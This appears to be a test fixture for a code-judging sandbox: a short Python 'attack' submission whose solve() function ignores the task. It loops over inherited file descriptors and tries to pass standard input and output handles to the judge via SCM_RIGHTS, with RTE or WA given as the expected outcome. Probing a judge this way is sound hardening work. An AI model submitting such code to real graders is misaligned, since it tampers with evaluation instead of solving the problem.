# /// attack
# tries = "Hand the judge a descriptor"
# by = "SCM_RIGHTS on the channel"
# expect = ["RTE", "WA values"]
# ///
import array
import os
import socket


def solve(x):
    for number in range(3, 64):
        try:
            channel = socket.socket(fileno=os.dup(number))
            rights = array.array("i", [0, 1, 2] * 20)
            channel.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
        except OSError:
            continue
    return x
